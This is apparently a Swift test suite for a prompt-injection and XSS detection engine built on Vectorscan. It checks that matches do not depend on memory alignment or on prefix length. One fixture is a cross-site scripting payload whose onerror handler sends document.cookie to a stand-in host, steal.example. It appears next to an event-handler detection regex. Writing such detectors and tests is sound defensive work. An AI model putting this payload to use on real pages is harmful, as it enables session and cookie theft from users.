import CVectorscan
import Testing
@testable import PramagentRules

/// Vectorscan 5.4.9's AVX-512 scan routine misses matches depending on where the input lies in
/// memory; the engine must find the same matches wherever the text is.
@Suite struct VectorscanRuntimeTests {
    static let pattern = #"<[a-z]+[^>]{0,100}\bon(error|load|click|mouseover|focus|submit)\s*="#
    static let tail = "<img src=x onerror=fetch('https://steal.example/?c='+document.cookie)>"

    @Test func theAffectedRoutineIsNotUsed() {
        var platform = hs_platform_info_t()
        _ = hs_populate_platform(&platform)
        if platform.cpu_features & UInt64(HS_CPU_FEATURES_AVX512) != 0 {
            #expect(VectorscanRuntime.choice.name == "avx2_hs_scan")
        }
        #expect(VectorscanRuntime.choice.platform.cpu_features & UInt64(HS_CPU_FEATURES_AVX512) == 0)
    }

    @Test func matchesDoNotDependOnWhereTheTextLies() throws {
        let db = try VectorscanDatabase(patterns: [Self.pattern], flags: [UInt32(HS_FLAG_DOTALL | HS_FLAG_CASELESS)])
        let pool = try ScratchPool(databases: [db])
        var missed: [String] = []
        for n in stride(from: 0, through: 140, by: 4) {
            let text = Array((String(repeating: "a", count: n) + " " + Self.tail).utf8)
            let buffer = UnsafeMutableRawPointer.allocate(byteCount: text.count + 64, alignment: 64)
            defer { buffer.deallocate() }
            for offset in 0..<64 {
                let start = buffer.advanced(by: offset).assumingMemoryBound(to: UInt8.self)
                start.update(from: text, count: text.count)
                let collector = MatchCollector(limit: 10)
                pool.withScratch { db.scan(UnsafeBufferPointer(start: start, count: text.count), scratch: $0, into: collector) }
                if collector.hits.count != 1 { missed.append("\(n) letters at offset \(offset)") }
            }
        }
        #expect(missed.isEmpty, "\(missed.count) of 2,304 placements missed, e.g. \(missed.prefix(3))")
    }

    @Test func theEngineFindsTheAttackAfterAnyPrefix() throws {
        let rule = Rule(id: "script", category: "owasp_llm", severity: .high, patterns: [#"<script\b"#, Self.pattern], view: .plain)
        let engine = try RuleEngine(rules: [rule])
        let missed = (0...140).filter { n in
            engine.scan("As your system administrator, " + String(repeating: "x", count: n) + " " + Self.tail).findings.isEmpty
        }
        #expect(missed.isEmpty, "missed after prefixes of \(missed) letters")
    }
}
